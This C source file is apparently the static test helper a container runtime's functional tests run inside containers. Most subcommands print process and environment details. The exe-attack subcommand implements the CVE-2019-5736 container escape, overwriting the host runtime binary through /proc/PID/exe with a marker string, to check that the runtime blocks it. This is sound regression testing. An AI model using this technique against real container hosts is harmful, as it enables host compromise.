/* SPDX-License-Identifier: Apache-2.0 */
/*
 * payload: the one static program the functional tests run inside containers
 * (crun's tests/init.c idea), so no distro image is needed.  Each argument
 * names a subcommand; subcommands take a fixed number of arguments, so several
 * can be chained in one run:
 *
 *   payload hostname ids caps cwd
 *
 * Every subcommand prints one or more lines "name: value" (or raw file
 * contents) on stdout.  A subcommand that fails prints "name: error: <why>" and
 * makes the exit status 1 (later subcommands still run); `exit N`, `kill-self`
 * and `sleep` end or pause the program.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE /* meson passes it; a plain `gcc -static payload.c` needs it */
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <stddef.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/utsname.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

static int status;

static void fail(const char *name, const char *what)
{
	printf("%s: error: %s%s%s\n", name, what ? what : "", what ? ": " : "", strerror(errno));
	status = 1;
}

static void cat_file(const char *name, const char *path)
{
	char buf[8192];
	ssize_t r;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0) {
		fail(name, path);
		return;
	}
	fflush(stdout);
	while ((r = read(fd, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, (size_t)r, stdout);
	if (r < 0)
		fail(name, path);
	close(fd);
}

static void do_hostname(void)
{
	struct utsname u;

	if (uname(&u) < 0) {
		fail("hostname", NULL);
		return;
	}
	printf("hostname: %s\n", u.nodename);
	printf("domainname: %s\n", u.domainname);
}

/* print the lines of /proc/self/status whose key starts with prefix */
static void status_lines(const char *name, const char *prefix)
{
	char line[512];
	size_t n = strlen(prefix);
	FILE *f = fopen("/proc/self/status", "re");

	if (!f) {
		fail(name, "/proc/self/status");
		return;
	}
	while (fgets(line, sizeof(line), f))
		if (strncmp(line, prefix, n) == 0) {
			char *colon = strchr(line, ':');
			char *v = colon + 1;

			*colon = '\0';
			while (*v == ' ' || *v == '\t')
				v++;
			printf("%s: %s", line, v);
		}
	fclose(f);
}

static void do_ids(void)
{
	gid_t groups[NGROUPS_MAX];
	int n = getgroups(NGROUPS_MAX, groups);
	mode_t m = umask(0);
	uid_t r, e, s;
	gid_t gr, ge, gs;

	umask(m);
	getresuid(&r, &e, &s);
	getresgid(&gr, &ge, &gs);
	printf("uid: %u %u %u\n", r, e, s);
	printf("gid: %u %u %u\n", gr, ge, gs);
	printf("groups:");
	for (int i = 0; i < n; i++)
		printf("%s%u", i ? "," : " ", groups[i]);
	printf("\numask: %04o\n", m);
}

static void do_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *de;
	char path[64], target[PATH_MAX];

	if (!d) {
		fail("fds", "/proc/self/fd");
		return;
	}
	while ((de = readdir(d))) {
		int fd;
		ssize_t n;

		if (de->d_name[0] == '.')
			continue;
		fd = atoi(de->d_name);
		if (fd == dirfd(d))
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		n = readlink(path, target, sizeof(target) - 1);
		target[n < 0 ? 0 : n] = '\0';
		printf("fd: %d %s\n", fd, target);
	}
	closedir(d);
}

static void do_stat(const char *p)
{
	struct stat st;
	char t = '?';

	if (lstat(p, &st) < 0) {
		fail("stat", p);
		return;
	}
	switch (st.st_mode & S_IFMT) {
	case S_IFREG:
		t = 'f';
		break;
	case S_IFDIR:
		t = 'd';
		break;
	case S_IFLNK:
		t = 'l';
		break;
	case S_IFCHR:
		t = 'c';
		break;
	case S_IFBLK:
		t = 'b';
		break;
	case S_IFIFO:
		t = 'p';
		break;
	case S_IFSOCK:
		t = 's';
		break;
	}
	printf("stat: %s %c %04o %u %u %u:%u %lld\n", p, t, st.st_mode & 07777, st.st_uid,
	       st.st_gid, major(st.st_rdev), minor(st.st_rdev), (long long)st.st_size);
	if (t == 'l') {
		char target[PATH_MAX];
		ssize_t n = readlink(p, target, sizeof(target) - 1);

		target[n < 0 ? 0 : n] = '\0';
		printf("link: %s %s\n", p, target);
	}
}

static void do_open(const char *p, int flags, const char *name)
{
	int fd = open(p, flags | O_CLOEXEC, 0644);

	if (fd < 0) {
		fail(name, p);
		return;
	}
	if ((flags & O_ACCMODE) != O_RDONLY && write(fd, "x", 1) != 1) {
		fail(name, p);
		close(fd);
		return;
	}
	close(fd);
	printf("%s: %s ok\n", name, p);
}

static void do_isatty(void)
{
	for (int fd = 0; fd <= 2; fd++) {
		const char *n = isatty(fd) ? ttyname(fd) : NULL;

		printf("isatty: %d %d %s\n", fd, isatty(fd), n ? n : "-");
	}
	{
		struct winsize ws;

		if (ioctl(1, TIOCGWINSZ, &ws) == 0)
			printf("winsize: %u %u\n", ws.ws_row, ws.ws_col);
		else
			printf("winsize: none\n");
	}
	printf("ctty: %s\n", open("/dev/tty", O_RDONLY | O_CLOEXEC) >= 0 ? "yes" : "no");
	printf("sid: %d pgid: %d tcpgrp: %d\n", getsid(0), getpgid(0), tcgetpgrp(0));
}

static const struct {
	const char *name;
	int res;
} rlimits[] = {
    {"AS", RLIMIT_AS},		 {"CORE", RLIMIT_CORE},		{"CPU", RLIMIT_CPU},
    {"DATA", RLIMIT_DATA},	 {"FSIZE", RLIMIT_FSIZE},	{"LOCKS", RLIMIT_LOCKS},
    {"MEMLOCK", RLIMIT_MEMLOCK}, {"MSGQUEUE", RLIMIT_MSGQUEUE}, {"NICE", RLIMIT_NICE},
    {"NOFILE", RLIMIT_NOFILE},	 {"NPROC", RLIMIT_NPROC},	{"RSS", RLIMIT_RSS},
    {"RTPRIO", RLIMIT_RTPRIO},	 {"RTTIME", RLIMIT_RTTIME},	{"SIGPENDING", RLIMIT_SIGPENDING},
    {"STACK", RLIMIT_STACK},
};

static void print_lim(rlim_t v)
{
	if (v == RLIM_INFINITY)
		printf("unlimited");
	else
		printf("%llu", (unsigned long long)v);
}

static void do_rlimit(const char *name)
{
	const char *n = strncmp(name, "RLIMIT_", 7) == 0 ? name + 7 : name;

	for (size_t i = 0; i < sizeof(rlimits) / sizeof(rlimits[0]); i++) {
		struct rlimit rl;

		if (strcmp(rlimits[i].name, n) != 0)
			continue;
		if (getrlimit(rlimits[i].res, &rl) < 0) {
			fail("rlimit", name);
			return;
		}
		printf("rlimit: %s ", rlimits[i].name);
		print_lim(rl.rlim_cur);
		printf(" ");
		print_lim(rl.rlim_max);
		printf("\n");
		return;
	}
	errno = EINVAL;
	fail("rlimit", name);
}

struct sched_attr_v1 {
	unsigned int size, sched_policy;
	unsigned long long sched_flags;
	int sched_nice;
	unsigned int sched_priority;
	unsigned long long sched_runtime, sched_deadline, sched_period;
	unsigned int util_min, util_max;
};

static void do_sched(void)
{
	static const char *const names[] = {"SCHED_OTHER",   "SCHED_FIFO", "SCHED_RR",
					    "SCHED_BATCH",   "SCHED_ISO",  "SCHED_IDLE",
					    "SCHED_DEADLINE"};
	struct sched_attr_v1 a;

	memset(&a, 0, sizeof(a));
	if (syscall(SYS_sched_getattr, 0, &a, sizeof(a), 0) < 0) {
		fail("sched", NULL);
		return;
	}
	printf("sched: %s nice=%d priority=%u flags=%llu runtime=%llu deadline=%llu period=%llu\n",
	       a.sched_policy < 7 ? names[a.sched_policy] : "?", a.sched_nice, a.sched_priority,
	       a.sched_flags & ~0x1ULL /* drop RESET_ON_FORK, reported separately */,
	       a.sched_runtime, a.sched_deadline, a.sched_period);
	printf("sched-reset-on-fork: %d\n", (int)(a.sched_flags & 1));
}

static void do_ioprio(void)
{
	static const char *const classes[] = {"IOPRIO_CLASS_NONE", "IOPRIO_CLASS_RT",
					      "IOPRIO_CLASS_BE", "IOPRIO_CLASS_IDLE"};
	long v = syscall(SYS_ioprio_get, 1 /* IOPRIO_WHO_PROCESS */, 0);

	if (v < 0) {
		fail("ioprio", NULL);
		return;
	}
	printf("ioprio: %s %ld\n", (v >> 13) < 4 ? classes[v >> 13] : "?", v & 0xff);
}

static void do_affinity(void)
{
	cpu_set_t set;
	int first = 1;

	if (sched_getaffinity(0, sizeof(set), &set) < 0) {
		fail("affinity", NULL);
		return;
	}
	printf("affinity:");
	for (int i = 0; i < CPU_SETSIZE; i++)
		if (CPU_ISSET(i, &set)) {
			printf("%s%d", first ? " " : ",", i);
			first = 0;
		}
	printf("\n");
}

static void do_sysctl(const char *key)
{
	char path[PATH_MAX] = "/proc/sys/";
	size_t n = strlen(path);

	for (const char *k = key; *k && n < sizeof(path) - 1; k++)
		path[n++] = *k == '.' ? '/' : *k;
	path[n] = '\0';
	printf("sysctl: %s ", key);
	cat_file("sysctl", path);
}

static void do_ns(void)
{
	static const char *const names[] = {
	    "cgroup", "ipc", "mnt", "net", "pid", "pid_for_children", "time", "time_for_children",
	    "user",   "uts"};
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		char path[64];
		struct stat st;

		snprintf(path, sizeof(path), "/proc/self/ns/%s", names[i]);
		if (stat(path, &st) < 0)
			printf("ns: %s none\n", names[i]);
		else
			printf("ns: %s %llu\n", names[i], (unsigned long long)st.st_ino);
	}
}

static void do_clock(void)
{
	struct timespec m, b;

	clock_gettime(CLOCK_MONOTONIC, &m);
	clock_gettime(CLOCK_BOOTTIME, &b);
	printf("clock: monotonic %lld boottime %lld\n", (long long)m.tv_sec, (long long)b.tv_sec);
}

static void do_listen(void)
{
	const char *fds = getenv("LISTEN_FDS"), *pid = getenv("LISTEN_PID");

	printf("listen: fds=%s pid=%s\n", fds ? fds : "-",
	       !pid		       ? "-"
	       : atoi(pid) == getpid() ? "self"
				       : pid);
}

static void do_fdwrite(const char *fdstr, const char *text)
{
	int fd = atoi(fdstr);
	size_t n = strlen(text);

	if (write(fd, text, n) != (ssize_t)n || write(fd, "\n", 1) != 1) {
		fail("fdwrite", fdstr);
		return;
	}
	printf("fdwrite: %d ok\n", fd);
}

/*
 * notify-to PATH MSG: MSG as one datagram to the unix datagram socket PATH
 * ("@name": abstract), as sd_notify(3) sends it; `notify MSG` sends to
 * $NOTIFY_SOCKET.
 */
static void do_notify(const char *name, const char *path, const char *msg)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	socklen_t len;
	int fd;

	if (path == NULL || (path[0] != '/' && path[0] != '@') ||
	    strlen(path) >= sizeof a.sun_path) {
		errno = EINVAL;
		fail(name, path ? path : "NOTIFY_SOCKET unset");
		return;
	}
	memcpy(a.sun_path, path, strlen(path));
	if (path[0] == '@')
		a.sun_path[0] = '\0';
	len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(path));
	fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || sendto(fd, msg, strlen(msg), 0, (struct sockaddr *)&a, len) < 0) {
		fail(name, path);
	} else {
		printf("%s: sent to %s\n", name, path);
	}
	if (fd >= 0)
		close(fd);
}

static int sig_from(const char *s)
{
	static const struct {
		const char *n;
		int v;
	} sigs[] = {{"HUP", SIGHUP},   {"INT", SIGINT},	  {"QUIT", SIGQUIT},
		    {"KILL", SIGKILL}, {"USR1", SIGUSR1}, {"USR2", SIGUSR2},
		    {"TERM", SIGTERM}, {"ABRT", SIGABRT}, {"SEGV", SIGSEGV}};

	if (strncmp(s, "SIG", 3) == 0)
		s += 3;
	for (size_t i = 0; i < sizeof(sigs) / sizeof(sigs[0]); i++)
		if (strcmp(sigs[i].n, s) == 0)
			return sigs[i].v;
	return atoi(s);
}

static void do_sleep(const char *s)
{
	double d = strtod(s, NULL);
	struct timespec ts = {(time_t)d, (long)((d - (double)(time_t)d) * 1e9)};

	while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
		;
}

/* the pid of a process with an argument equal to `arg`, other than us; 0 if none */
static pid_t find_arg(const char *arg)
{
	DIR *d = opendir("/proc");
	struct dirent *de;
	pid_t found = 0;

	if (!d)
		return 0;
	while (found == 0 && (de = readdir(d))) {
		char path[64], buf[4096];
		pid_t pid = (pid_t)atoi(de->d_name);
		ssize_t n;
		int fd;

		if (pid <= 0 || pid == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		if (n <= 0)
			continue;
		buf[n] = '\0';
		for (ssize_t i = 0; i < n; i += (ssize_t)strlen(buf + i) + 1) {
			if (strcmp(buf + i, arg) == 0) {
				found = pid;
				break;
			}
		}
	}
	closedir(d);
	return found;
}

/*
 * exe-attack FIFO: CVE-2019-5736, the classic shape.  The container runs a
 * script `#!/proc/self/exe --log=FIFO`: the kernel resolves the interpreter
 * in the runtime's process, which (unprotected) runs the runtime's binary
 * inside the container, blocked opening the FIFO for its log.  Find it (20 s
 * at most), open its /proc/PID/exe (O_PATH), try to open that for writing
 * directly (ETXTBSY while it runs), let it go (read the FIFO to its end),
 * then reopen the O_PATH fd via /proc/self/fd/N for writing until no process
 * runs the binary (20 s), and overwrite its first bytes.  Prints the pid
 * and the exe link's target, "exe-attack: wrote N bytes" when the binary was written, "exe-attack:
 * refused: <why>" when not, then "exe-attack: done".
 */
static void do_exe_attack(const char *fifo)
{
	static const char marker[] = "HUSK-CVE-2019-5736";
	char arg[512], path[64];
	pid_t pid = 0;
	int fd, w, r;
	char buf[4096];
	ssize_t n;

	snprintf(arg, sizeof(arg), "--log=%s", fifo);
	for (int i = 0; i < 2000 && pid == 0; i++) {
		pid = find_arg(arg);
		if (pid == 0)
			do_sleep("0.01");
	}
	if (pid == 0) {
		errno = ESRCH;
		fail("exe-attack", "no process with the argument");
		return;
	}
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		fail("exe-attack", path);
		return;
	}
	printf("exe-attack: pid %d\n", pid);
	n = readlink(path, buf, sizeof(buf) - 1);
	buf[n < 0 ? 0 : n] = '\0';
	printf("exe-attack: exe %s\n", buf);
	w = open(path, O_WRONLY | O_CLOEXEC);
	printf("exe-attack: direct open for writing: %s\n", w < 0 ? strerror(errno) : "opened");
	if (w >= 0)
		close(w);
	r = open(fifo, O_RDONLY | O_CLOEXEC);
	if (r < 0) {
		fail("exe-attack", fifo);
		return;
	}
	while ((n = read(r, buf, sizeof(buf))) > 0 || (n < 0 && errno == EINTR))
		;
	close(r);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 2000; i++) {
		w = open(path, O_WRONLY | O_CLOEXEC);
		if (w >= 0 || errno != ETXTBSY)
			break;
		do_sleep("0.01");
	}
	if (w < 0 && errno == ETXTBSY) {
		fail("exe-attack", "still busy after 20 s");
		return;
	}
	if (w < 0) {
		printf("exe-attack: refused: open: %s\n", strerror(errno));
	} else {
		n = pwrite(w, marker, sizeof(marker) - 1, 0);
		if (n < 0)
			printf("exe-attack: refused: write: %s\n", strerror(errno));
		else
			printf("exe-attack: wrote %zd bytes\n", n);
		close(w);
	}
	close(fd);
	printf("exe-attack: done\n");
}

/* wait for a signal; print it; used to check signal delivery by `kill` */
static void do_trap(void)
{
	sigset_t set;
	int sig;

	sigfillset(&set);
	sigdelset(&set, SIGKILL);
	sigdelset(&set, SIGSTOP);
	sigprocmask(SIG_BLOCK, &set, NULL);
	printf("trap: ready\n");
	fflush(stdout);
	if (sigwait(&set, &sig) == 0)
		printf("trap: got %d\n", sig);
	fflush(stdout);
}

static void usage(void)
{
	fputs("usage: payload CMD [ARG]... [CMD [ARG]...]...\n"
	      "  hostname ids caps fds cwd env mounts cgroup isatty oom sched ioprio personality\n"
	      "  affinity nnp ns pid clock listen seccomp trap pause\n"
	      "  stat PATH  open PATH  write PATH  append PATH  cat PATH  ls DIR  rlimit NAME\n"
	      "  sysctl KEY  status PREFIX  echo TEXT  getenv NAME  fdwrite FD TEXT\n"
	      "  sleep SECONDS  exit N  kill-self SIG  socket unix|inet|inet6  mkdir PATH\n"
	      "  exe-attack FIFO  syscall NR  notify MSG  notify-to PATH MSG\n",
	      stderr);
}

int main(int argc, char **argv)
{
	int i = 1;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2) {
		usage();
		return 2;
	}
	while (i < argc) {
		const char *c = argv[i++];
		const char *a1 = i < argc ? argv[i] : NULL;
		const char *a2 = i + 1 < argc ? argv[i + 1] : NULL;

#define NEED(n)                                                                                    \
	do {                                                                                       \
		if ((n) >= 1 && !a1) {                                                             \
			fprintf(stderr, "payload: %s: missing argument\n", c);                     \
			return 2;                                                                  \
		}                                                                                  \
		if ((n) >= 2 && !a2) {                                                             \
			fprintf(stderr, "payload: %s: missing argument\n", c);                     \
			return 2;                                                                  \
		}                                                                                  \
		i += (n);                                                                          \
	} while (0)

		if (!strcmp(c, "hostname")) {
			do_hostname();
		} else if (!strcmp(c, "ids")) {
			do_ids();
		} else if (!strcmp(c, "caps")) {
			status_lines("caps", "Cap");
		} else if (!strcmp(c, "seccomp")) {
			status_lines("seccomp", "Seccomp");
		} else if (!strcmp(c, "nnp")) {
			printf("nnp: %d\n", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
		} else if (!strcmp(c, "status")) {
			NEED(1);
			status_lines("status", a1);
		} else if (!strcmp(c, "fds")) {
			do_fds();
		} else if (!strcmp(c, "cwd")) {
			char buf[PATH_MAX];

			if (getcwd(buf, sizeof(buf)))
				printf("cwd: %s\n", buf);
			else
				fail("cwd", NULL);
		} else if (!strcmp(c, "env")) {
			for (char **e = environ; *e; e++)
				printf("env: %s\n", *e);
		} else if (!strcmp(c, "getenv")) {
			NEED(1);
			printf("getenv: %s=%s\n", a1, getenv(a1) ? getenv(a1) : "<unset>");
		} else if (!strcmp(c, "mounts")) {
			cat_file("mounts", "/proc/self/mountinfo");
		} else if (!strcmp(c, "cgroup")) {
			cat_file("cgroup", "/proc/self/cgroup");
		} else if (!strcmp(c, "cat")) {
			NEED(1);
			cat_file("cat", a1);
		} else if (!strcmp(c, "ls")) {
			DIR *d;
			struct dirent *de;

			NEED(1);
			d = opendir(a1);
			if (!d) {
				fail("ls", a1);
				continue;
			}
			while ((de = readdir(d)))
				if (strcmp(de->d_name, ".") && strcmp(de->d_name, ".."))
					printf("ls: %s\n", de->d_name);
			closedir(d);
		} else if (!strcmp(c, "stat")) {
			NEED(1);
			do_stat(a1);
		} else if (!strcmp(c, "open")) {
			NEED(1);
			do_open(a1, O_RDONLY, "open");
		} else if (!strcmp(c, "write")) {
			NEED(1);
			do_open(a1, O_WRONLY | O_CREAT | O_TRUNC, "write");
		} else if (!strcmp(c, "append")) {
			NEED(1);
			do_open(a1, O_WRONLY | O_APPEND, "append");
		} else if (!strcmp(c, "isatty")) {
			do_isatty();
		} else if (!strcmp(c, "rlimit")) {
			NEED(1);
			do_rlimit(a1);
		} else if (!strcmp(c, "oom")) {
			printf("oom: ");
			cat_file("oom", "/proc/self/oom_score_adj");
		} else if (!strcmp(c, "sched")) {
			do_sched();
		} else if (!strcmp(c, "ioprio")) {
			do_ioprio();
		} else if (!strcmp(c, "personality")) {
			int p = personality(0xffffffff);

			printf("personality: 0x%x %s\n", (unsigned)p,
			       (p & PER_MASK) == PER_LINUX32 ? "LINUX32" : "LINUX");
		} else if (!strcmp(c, "affinity")) {
			do_affinity();
		} else if (!strcmp(c, "sysctl")) {
			NEED(1);
			do_sysctl(a1);
		} else if (!strcmp(c, "ns")) {
			do_ns();
		} else if (!strcmp(c, "pid")) {
			printf("pid: %d ppid: %d\n", getpid(), getppid());
		} else if (!strcmp(c, "clock")) {
			do_clock();
		} else if (!strcmp(c, "listen")) {
			do_listen();
		} else if (!strcmp(c, "fdwrite")) {
			NEED(2);
			do_fdwrite(a1, a2);
		} else if (!strcmp(c, "echo")) {
			NEED(1);
			printf("%s\n", a1);
		} else if (!strcmp(c, "notify")) {
			NEED(1);
			do_notify("notify", getenv("NOTIFY_SOCKET"), a1);
		} else if (!strcmp(c, "notify-to")) {
			NEED(2);
			do_notify("notify-to", a1, a2);
		} else if (!strcmp(c, "sleep")) {
			NEED(1);
			do_sleep(a1);
		} else if (!strcmp(c, "pause")) {
			for (;;)
				pause();
		} else if (!strcmp(c, "trap")) {
			do_trap();
		} else if (!strcmp(c, "exit")) {
			NEED(1);
			fflush(stdout);
			_exit(atoi(a1));
		} else if (!strcmp(c, "kill-self")) {
			NEED(1);
			fflush(stdout);
			signal(sig_from(a1), SIG_DFL);
			/* pid 1 of a pid namespace ignores its own signals: also exit */
			kill(getpid(), sig_from(a1));
			_exit(128 + sig_from(a1));
		} else if (!strcmp(c, "socket")) {
			/* socket unix|inet|inet6: create one (for seccomp argument filters) */
			int fam, fd;

			NEED(1);
			fam = !strcmp(a1, "unix")   ? AF_UNIX
			      : !strcmp(a1, "inet") ? AF_INET
						    : AF_INET6;
			fd = socket(fam, SOCK_STREAM | SOCK_CLOEXEC, 0);
			if (fd < 0) {
				fail("socket", a1);
			} else {
				printf("socket: %s ok\n", a1);
				close(fd);
			}
		} else if (!strcmp(c, "exe-attack")) {
			NEED(1);
			do_exe_attack(a1);
		} else if (!strcmp(c, "syscall")) {
			/* syscall NR: a raw syscall with zero arguments (seccomp's ENOSYS stub) */
			NEED(1);
			errno = 0;
			if (syscall(strtol(a1, NULL, 0), 0, 0, 0, 0, 0, 0) < 0)
				fail("syscall", a1);
			else
				printf("syscall: %s ok\n", a1);
		} else if (!strcmp(c, "mkdir")) {
			NEED(1);
			if (mkdir(a1, 0755) < 0)
				fail("mkdir", a1);
			else
				printf("mkdir: %s ok\n", a1);
		} else {
			fprintf(stderr, "payload: unknown command `%s`\n", c);
			usage();
			return 2;
		}
#undef NEED
	}
	fflush(stdout);
	return status;
}
